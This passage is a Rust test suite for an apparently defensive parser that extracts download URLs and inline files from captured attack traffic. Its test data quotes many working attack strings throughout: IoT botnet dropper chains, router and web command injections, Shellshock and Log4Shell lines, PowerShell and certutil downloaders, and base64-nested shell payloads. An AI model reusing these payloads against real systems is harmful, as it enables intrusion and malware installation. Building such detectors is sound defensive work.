            b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 192.0.2.10; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 192.0.2.10 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *",
            &[
                "http 192.0.2.10 - - - /bins.sh bins.sh",
                "tftp 192.0.2.10 - - - tftp1.sh tftp1.sh",
                "tftp 192.0.2.10 - - - tftp2.sh tftp2.sh",
                "ftp 192.0.2.10 21 anonymous anonymous ftp1.sh ftp1.sh",
            ],
        );
    }

    #[test]
    fn http_injections() {
        check(b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 5.6.7.8\r\nUser-Agent: Hello, world\r\n\r\n", &[
            "http 1.2.3.4 - - - /jaws jaws",
        ]);
        check(b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.2:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", &[
            "http 198.51.100.2 8088 - - /Mozi.m netgear",
        ]);
        check(b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://198.51.100.3/t.sh%20-O%20/tmp/t.sh;sh%20/tmp/t.sh HTTP/1.1\r\n\r\n", &[
            "http 198.51.100.3 - - - /t.sh t.sh",
        ]);
        check(b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nContent-Length: 118\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.4:8080/gpon+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0", &[
            "http 198.51.100.4 8080 - - /gpon gpon",
        ]);
        check(b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"application-id\":\"application_1\",\"application-name\":\"get-shell\",\"am-container-spec\":{\"commands\":{\"command\":\"wget -q -O - http:\\/\\/198.51.100.5\\/y.sh \\u0026\\u0026 sh y.sh\"}},\"application-type\":\"YARN\"}", &[
            "http 198.51.100.5 - - - /y.sh y.sh",
        ]);
        check(b"POST /HNAP1/ HTTP/1.0\r\nContent-Type: text/xml; charset=\"utf-8\"\r\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://198.51.100.6/h.mips && chmod +x h.mips && ./h.mips`\r\n\r\n", &[
            "http 198.51.100.6 - - - /h.mips h.mips",
        ]);
        check(b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c \"cd /tmp;wget http://198.51.100.7/sb;curl -O http://198.51.100.7/sb;perl sb\"\r\n\r\n", &[
            "http 198.51.100.7 - - - /sb sb",
        ]);
        check(
            b"GET /x?c=$(wget${IFS}http://198.51.100.8/i${IFS}-O${IFS}/tmp/i) HTTP/1.1\r\n\r\n",
            &["http 198.51.100.8 - - - /i i"],
        );
        check(b"cd$IFS/tmp;wget$IFS$9http://198.51.100.8/j;sh$IFS/tmp/j", &["http 198.51.100.8 - - - /j j"]);
        check(b"POST /cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nip=1.1.1.1 %7C wget http%3A%2F%2F198.51.100.9%2Fq -O- %7C sh", &["http 198.51.100.9 - - - /q q"]);
        check(b"<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.10 -l /tmp/binary -r /okiru.mips; /tmp/binary huawei.rep)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>", &[
            "tftp 198.51.100.10 - - - /okiru.mips binary",
        ]);
        check(b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\r\nReferer: http://www.example.com/\r\n\r\n", &[]);
        // Redis cron line.
        check(
            b"*3\r\n$3\r\nset\r\n$1\r\n1\r\n$56\r\n\n\n*/1 * * * * curl -fsSL http://198.51.100.11/c.sh | sh\n\n\r\n",
            &["http 198.51.100.11 - - - /c.sh c.sh"],
        );
        // Percent signs are not decoded outside URL-encoded contexts.
        check(b"wget http://198.51.100.12/a%41b+c", &["http 198.51.100.12 - - - /a%41b+c a%41b+c"]);
        check(b"wget http://198.51.100.12/a%20b", &["http 198.51.100.12 - - - /a a"]);
        // Absolute-form request target and bare URLs count (as in htm_httpDownload.c).
        check(b"GET http://proxy.example/x.txt HTTP/1.1\r\n\r\n", &["http proxy.example - - - /x.txt x.txt"]);
        check(
            b"see (http://bare.example/p.exe), and ftp://192.0.2.9/q.",
            &["http bare.example - - - /p.exe p.exe", "ftp 192.0.2.9 - - - q q"],
        );
    }

    /// More real-world forms: (attack with `\r\n` written literally, expected).
    const FIELD: &[(&str, &[&str])] = &[
        ("GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://10.0.0.1/mips;${IFS}sh${IFS}/var/tmp/mips HTTP/1.1\r\n\r\n",
            &["http 10.0.0.1 - - - /mips mips"]),
        ("POST /tmUnblock.cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nttcp_ip=-h+%60cd+%2Ftmp%3B+rm+-rf+mpsl%3B+wget+http%3A%2F%2F198.51.100.1%2Fmpsl%3B+chmod+777+mpsl%3B+.%2Fmpsl+linksys%60&action=&ttcp_num=2",
            &["http 198.51.100.1 - - - /mpsl mpsl"]),
        ("GET /language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://198.51.100.2/ar;sh${IFS}/tmp/ar&>r&&tar${IFS}/string.js HTTP/1.0\r\n\r\n",
            &["http 198.51.100.2 - - - /ar ar"]),
        ("POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewInternalClient>`cd /var; rm -rf nabirt; wget http://198.51.100.3/nabirt; chmod 777 nabirt; ./nabirt realtek.selfrep`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>",
            &["http 198.51.100.3 - - - /nabirt nabirt"]),
        ("POST /boaform/admin/formPing HTTP/1.1\r\n\r\ntarget_addr=;wget http://198.51.100.5/x -O /tmp/s;chmod 777 /tmp/s;/tmp/s&waninf=1_INTERNET_R_VID_154",
            &["http 198.51.100.5 - - - /x s"]),
        ("GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%20%2Ftmp;curl%20-O%20http%3A%2F%2F198.51.100.6%2Fzero;sh%20zero;%22 HTTP/1.1\r\n\r\n",
            &["http 198.51.100.6 - - - /zero zero"]),
        ("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n/bin/busybox wget http://198.51.100.7:8080/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n",
            &["http 198.51.100.7 8080 - - /bins/mirai.arm dvrHelper"]),
        ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php system('wget http://198.51.100.10/p.sh -O- | sh'); ?>",
            &["http 198.51.100.10 - - - /p.sh p.sh"]),
        ("xp_cmdshell 'powershell -c \"(new-object System.Net.WebClient).DownloadFile(''http://198.51.100.12/a.exe'',''C:\\ProgramData\\a2.exe'')\"'",
            &["http 198.51.100.12 - - - /a.exe a2.exe"]),
        ("EXEC master..xp_cmdshell 'certutil -urlcache -split -f http://198.51.100.13/b.exe %TEMP%\\b2.exe'",
            &["http 198.51.100.13 - - - /b.exe b2.exe"]),
        ("cmd /c bitsadmin /transfer x http://198.51.100.14/c.exe %APPDATA%\\c2.exe&start %APPDATA%\\c2.exe",
            &["http 198.51.100.14 - - - /c.exe c2.exe"]),
        ("nohup $(curl -s http://198.51.100.17/k.sh || wget -q -O - http://198.51.100.17/k.sh) | bash > /dev/null 2>&1 &",
            &["http 198.51.100.17 - - - /k.sh k.sh"]),
        ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://198.51.100.18/t+-O-|sh`) HTTP/1.1\r\n\r\n",
            &["http 198.51.100.18 - - - /t t"]),
        ("GET /shell?cd%20/tmp%20%7C%7C%20cd%20/var/run%3B%20wget%20http%3A//198.51.100.20/jaws.sh%3B%20chmod%20777%20jaws.sh%3B%20sh%20jaws.sh HTTP/1.1\r\n\r\n",
            &["http 198.51.100.20 - - - /jaws.sh jaws.sh"]),
        ("echo \"d2dldCBodHRwOi8vMTk4LjUxLjEwMC4yMi9zLnNoIC1PIC90bXAvcy5zaA==\"|base64 -d|bash",
            &["http 198.51.100.22 - - - /s.sh s.sh"]),
        ("cd /tmp; busybox tftp -r mipsel -g 198.51.100.30 69; chmod 777 mipsel", &["tftp 198.51.100.30 69 - - mipsel mipsel"]),
        ("python -c \"import urllib;urllib.urlretrieve('http://198.51.100.32/py','/tmp/py')\"", &["http 198.51.100.32 - - - /py py"]),
        ("POST /x HTTP/1.1\r\n\r\n<cmd>cd /tmp &amp;&amp; wget http://198.51.100.36/h.sh &amp;&amp; sh h.sh</cmd>",
            &["http 198.51.100.36 - - - /h.sh h.sh"]),
        ("CMD.EXE /C \"echo open 198.51.100.39 21 >> c.txt && echo user hax0r pw >> c.txt && echo binary >> c.txt && echo get mal.exe >> c.txt && echo quit >> c.txt && ftp -n -s:c.txt && mal.exe\"",
            &["ftp 198.51.100.39 21 hax0r pw mal.exe mal.exe"]),
        ("GET /cgi-bin/admin.cgi?Command=sysCommand&Cmd=wget%20-qO-%20https://198.51.100.40:8443/s.sh%7Csh HTTP/1.1\r\n\r\n",
            &["https 198.51.100.40 8443 - - /s.sh s.sh"]),
        ("GET /${jndi:ldap://198.51.100.11:1389/Exploit} HTTP/1.1\r\n\r\n", &[]),
        ("cd /tmp; wget bins.sh; wget 198.51.100.44", &["http 198.51.100.44 - - - / index.html"]),
    ];

    #[test]
    fn field_forms() {
        for (a, want) in FIELD {
            check(a.replace("\\r\\n", "\r\n").as_bytes(), want);
        }
    }

    #[test]
    fn windows_downloaders() {
        check(b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.20/a.ps1')\"", &[
            "http 198.51.100.20 - - - /a.ps1 a.ps1",
        ]);
        check(b"powershell.exe (New-Object System.Net.WebClient).DownloadFile('http://198.51.100.20/b.exe','C:\\Users\\Public\\svc.exe');Start-Process 'C:\\Users\\Public\\svc.exe'", &[
            "http 198.51.100.20 - - - /b.exe svc.exe",
        ]);
        check(
            b"powershell Invoke-WebRequest -Uri http://198.51.100.20/c.exe -OutFile $env:TEMP\\c1.exe",
            &["http 198.51.100.20 - - - /c.exe c1.exe"],
        );
        check(b"powershell iwr http://198.51.100.20/d.exe -outf d2.exe", &["http 198.51.100.20 - - - /d.exe d2.exe"]);
        check(
            b"Start-BitsTransfer -Source http://198.51.100.20/e.exe -Destination C:\\e2.exe",
            &["http 198.51.100.20 - - - /e.exe e2.exe"],
        );
        check(
            b"certutil.exe -urlcache -split -f http://198.51.100.20/f.exe c:\\f2.exe & c:\\f2.exe",
            &["http 198.51.100.20 - - - /f.exe f2.exe"],
        );
        check(
            b"bitsadmin /transfer job /download /priority high http://198.51.100.20/g.exe C:\\g2.exe",
            &["http 198.51.100.20 - - - /g.exe g2.exe"],
        );
        // -EncodedCommand: base64 of UTF-16LE.
        let ps = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.21/enc.ps1')";
        let u16: Vec<u8> = ps.bytes().flat_map(|c| [c, 0]).collect();
        for opt in ["-enc", "-EncodedCommand", "-e", "-ec"] {
            let a = format!("powershell.exe -NoP -NonI -W Hidden {opt} {}", b64(&u16));
            check(a.as_bytes(), &["http 198.51.100.21 - - - /enc.ps1 enc.ps1"]);
        }
    }

    fn b64(data: &[u8]) -> String {
        crate::pipeline::decode::base64_encode(data)
    }

    #[test]
    fn encoded_shell_bodies() {
        let body = "cd /tmp; wget http://198.51.100.30/b64.sh -O x; sh x";
        check(
            format!("echo {} | base64 -d | sh", b64(body.as_bytes())).as_bytes(),
            &["http 198.51.100.30 - - - /b64.sh x"],
        );
        check(
            format!("echo '{}'|base64 --decode|bash", b64(body.as_bytes())).as_bytes(),
            &["http 198.51.100.30 - - - /b64.sh x"],
        );
        check(
            format!("bash -c {{echo,{}}}|{{base64,-d}}|{{bash,-i}}", b64(body.as_bytes())).as_bytes(),
            &["http 198.51.100.30 - - - /b64.sh x"],
        );
        check(
            format!("sh -c \"$(echo {} | base64 -d)\"", b64(body.as_bytes())).as_bytes(),
            &["http 198.51.100.30 - - - /b64.sh x"],
        );
        // Nested twice.
        let inner = format!("echo {} | base64 -d | sh", b64(body.as_bytes()));
        check(
            format!("echo {}|base64 -d|sh", b64(inner.as_bytes())).as_bytes(),
            &["http 198.51.100.30 - - - /b64.sh x"],
        );
        // printf hex body into a shell.
        let hexed: String = "wget http://198.51.100.31/p".bytes().map(|b| format!("\\x{b:02x}")).collect();
        check(format!("printf '{hexed}' | sh").as_bytes(), &["http 198.51.100.31 - - - /p p"]);
        // No depth limit: four, five and eight levels of base64 are unwrapped.
        let mut s = "wget http://198.51.100.32/deep".to_string();
        for level in 1..=8 {
            s = format!("echo {}|base64 -d|sh", b64(s.as_bytes()));
            if [4, 5, 8].contains(&level) {
                check(s.as_bytes(), &["http 198.51.100.32 - - - /deep deep"]);
            }
        }
        // The budget: once the bodies of a window reach NESTED_BUDGET bytes, no more are
        // decoded (here the second of two nested ones; with less padding it fits).
        let nest = |pad: usize| {
            let inner = format!("wget http://198.51.100.33/big; #{}", "x".repeat(pad));
            let middle = format!("echo {}|base64 -d|sh", b64(inner.as_bytes()));
            format!("echo {}|base64 -d|sh", b64(middle.as_bytes()))
        };
        let over = nest(NESTED_BUDGET / 2);
        assert!(over.len() < WINDOW, "one window");
        check(over.as_bytes(), &[]);
        check(nest(NESTED_BUDGET / 8).as_bytes(), &["http 198.51.100.33 - - - /big big"]);
    }

    #[test]
    fn inline_files() {
        let elf = b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00(\x00\x01";
        let mut a = Vec::new();
        for (n, chunk) in elf.chunks(6).enumerate() {
            let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
            let op = if n == 0 { ">" } else { ">>" };
            a.extend_from_slice(format!("/bin/busybox echo -ne '{hex}' {op} .s\r\n").as_bytes());
        }
        a.extend_from_slice(b"/bin/busybox chmod 777 .s; ./.s > dvrHelper\r\n");
        let got = extract(&a);
        assert_eq!(got.len(), 1, "{got:?}");
        assert_eq!(got[0].scheme, Scheme::Inline);
        assert_eq!(got[0].filename, ".s");
        assert_eq!(got[0].data, elf);
        assert_eq!(got[0].uri(), "inline:.s");
        // printf with octal, and `>` truncating.
        let got = extract(b"printf 'junk' > /tmp/b; printf '\\177ELF\\001' > /tmp/b; printf '\\x41' >> /tmp/b");
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].data, b"\x7fELF\x01A");
        // echo -e octal \0NNN and newline.
        let got = extract(b"echo -e '\\0177ELF' >> x.bin");
        assert_eq!(got[0].data, b"\x7fELF\n");
        // Plain echo (FTP scripts, cron lines) and tiny writes are not inline files.
        check(b"echo open 1.2.3.4 > s", &[]);
        check(b"echo -ne '\\x01' > t", &[]);
        check(b"echo -ne '\\x7f\\x45\\x4c\\x46' > /dev/null", &[]);
    }

    #[test]
    fn order_dedup_and_cap() {
        check(
            b"tftp -i 192.0.2.1 GET a; wget http://192.0.2.2/b; tftp -i 192.0.2.1 GET a; curl http://192.0.2.2:80/b",
            &["tftp 192.0.2.1 - - - a a", "http 192.0.2.2 - - - /b b"],
        );
        let many: String = (0..100).map(|i| format!("wget http://192.0.2.1/{i};")).collect();
        let got = extract(many.as_bytes());
        assert_eq!(got.len(), MAX_REQUESTS);
        assert_eq!(got[0].path, "/0");
        assert_eq!(got[31].path, "/31");
    }

    #[test]
    fn windows_cover_everything_and_every_short_stretch_whole() {
        assert_eq!(windows(b"").map(|w| (w.0, w.1.len(), w.2)).collect::<Vec<_>>(), [(0, 0, usize::MAX)]);
        for (len, newlines) in [(WINDOW, false), (WINDOW + 1, false), (3 * WINDOW + 77, false), (3 * WINDOW, true)] {
            let data: Vec<u8> = (0..len).map(|i| if newlines && i % 100_003 == 0 { b'\n' } else { b'x' }).collect();
            let ws: Vec<(usize, usize, usize)> = windows(&data).map(|(o, w, own)| (o, w.len(), own)).collect();
            // The owned parts follow each other without gap from 0 to the end.
            let mut next = 0;
            for (i, &(o, n, own)) in ws.iter().enumerate() {
                assert_eq!(o, next, "{len}: window {i} starts where the last one's own part ended");
                assert!(n <= WINDOW);
                if i + 1 == ws.len() {
                    assert_eq!((own, o + n), (usize::MAX, len));
                } else {
                    assert!(own <= n - OVERLAP && own >= n - 2 * OVERLAP, "{len}: window {i} overlap");
                    next = o + own;
                }
            }
            // Every stretch of OVERLAP bytes lies whole in a window.
            for a in (0..len.saturating_sub(OVERLAP)).step_by(4099) {
                assert!(ws.iter().any(|&(o, n, _)| o <= a && a + OVERLAP <= o + n), "{len}: stretch at {a}");
            }
        }
    }

    #[test]
    fn commands_anywhere_in_a_long_attack() {
        // After 5 MiB of padding, and across each window boundary, every command once.
        let mut a = "A".repeat(5 << 20).into_bytes();
        a.extend_from_slice(b"\ncd /tmp; wget http://192.0.2.40/late.sh; sh late.sh\n");
        check(&a, &["http 192.0.2.40 - - - /late.sh late.sh"]);
        let cmd = |i: usize| format!("wget http://192.0.2.41/{i}.sh;");
        let mut b = String::new();
        let mut i = 0;
        while b.len() < 3 * WINDOW {
            b.push_str(&cmd(i));
            i += 1;
        }
        let got = extract(b.as_bytes());
        let paths: Vec<String> = got.iter().map(|r| r.path.clone()).collect();
        let want: Vec<String> = (0..MAX_REQUESTS).map(|i| format!("/{i}.sh")).collect();
        assert_eq!(paths, want, "the first ones, in order, no cut-off duplicates");
        // Few commands spread over windows, one of them cut by the end of the first window.
        let mut c = vec![b'.'; WINDOW - 10];
        c.extend_from_slice(b" ;wget http://192.0.2.42/cut.sh;");
        c.extend(vec![b'.'; 2 * WINDOW]);
        c.extend_from_slice(b";tftp -i 192.0.2.43 GET end.exe");
        check(&c, &["http 192.0.2.42 - - - /cut.sh cut.sh", "tftp 192.0.2.43 - - - end.exe end.exe"]);
        // An inline file that a window cuts is kept whole, from the window that saw it all.
        let mut d = vec![b'#'; WINDOW - 4000];
        d.push(b'\n');
        for n in 0..200 {
            let op = if n == 0 { ">" } else { ">>" };
            d.extend_from_slice(format!("echo -ne '\\x41\\x42\\x43' {op} .f\n").as_bytes());
        }
        let got = extract(&d);
        assert_eq!(got.len(), 1, "{got:?}");
        assert_eq!(got[0].data, b"ABC".repeat(200));
    }

    #[test]
    fn hostile_inputs_bounded() {
        check(b"wget http://", &[]);
        check(b"wget http://:80/x http://[::1/x http://a:99999/ http://$(id)/x", &[]);
        check(b"http://x.example:/a", &["http x.example - - - /a a"]);
        // Adversarial 4 MiB inputs (three windows) finish: each takes about a second in a
        // debug build on an idle machine. The bound is not a speed target (that is measured
        // by `make bench`); it catches work that grows faster than the input, which would
        // take hours at this size, while leaving room for a loaded CI machine.
        let pieces: &[&[u8]] = &[
            b"http://",
            b"{",
            b"{a,",
            b"echo open 1.2.3.4>",
            b"$(",
            b"&#",
            b"\\u00",
            b"%",
            b"ftp -i ",
            b"tftp -i a GET ",
            b"echo -ne '\\x7f' >> a",
            b"|base64 -d|sh ",
        ];
        for p in pieces {
            let big: Vec<u8> = p.iter().copied().cycle().take((4 << 20) + 10).collect();
            let t = std::time::Instant::now();
            let got = extract(&big);
            assert!(got.len() <= MAX_REQUESTS);
            assert!(
                t.elapsed() < std::time::Duration::from_secs(120),
                "{:?} took {:?}",
                String::from_utf8_lossy(p),
                t.elapsed()
            );
        }
    }

    fn invariants(got: &[Request]) {
        assert!(got.len() <= MAX_REQUESTS);
        for r in got {
            if r.scheme == Scheme::Inline {
                assert!(r.data.len() >= MIN_INLINE && !r.filename.is_empty());
            } else {
                assert!(!r.host.is_empty() && !r.path.is_empty() && !r.filename.is_empty(), "{r:?}");
                assert!(r.data.is_empty());
                assert_ne!(r.port, Some(0));
                if matches!(r.scheme, Scheme::Http | Scheme::Https) {
                    assert!(r.path.starts_with('/'));
                }
            }
        }
    }

    #[test]
    fn no_panic_random_and_mutated() {
        let seeds: &[&[u8]] = &[
            b"cd /tmp; wget http://192.0.2.10/bins.sh -O x; tftp -g -r a 192.0.2.1; ftpget -u a -p b 1.2.3.4 l r",
            b"echo open 1.2.3.4 21>>ik &echo user 1 1>>ik &echo get a.exe>>ik &ftp -n -v -s:ik",
            b"GET /shell?cd+/tmp;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n",
            b"powershell -enc SQBFAFgA; echo -ne '\\x7f\\x45\\x4c\\x46' >> .s; echo Zm9v|base64 -d|sh",
            b"{echo,d2dldCBodHRwOi8vMS4yLjMuNC94}|{base64,-d}|{bash,-i} certutil -urlcache -f http://[::1]:8/x y",
        ];
        let mut rng = XorShift(0xe47_2ac7);
        for round in 0..4000 {
            let mut v = seeds[round % seeds.len()].to_vec();
            for _ in 0..rng.below(8) {
                let at = rng.below(v.len() + 1);
                match rng.below(4) {
                    0 if at < v.len() => v[at] = rng.next() as u8,
                    1 if at < v.len() => {
                        v.remove(at);
                    }
                    2 => v.insert(at, b" ;|&>'\"$(){}\\%=:/@[]x0"[rng.below(22)]),
                    _ => {
                        let from = rng.below(v.len());
                        let piece = v[from..(from + rng.below(16)).min(v.len())].to_vec();
                        v.splice(at..at, piece);
                    }
                }
            }
            if round % 7 == 0 {
                v = (0..rng.below(200)).map(|_| rng.next() as u8).collect();
            }
            invariants(&extract(&v));
        }
    }
}
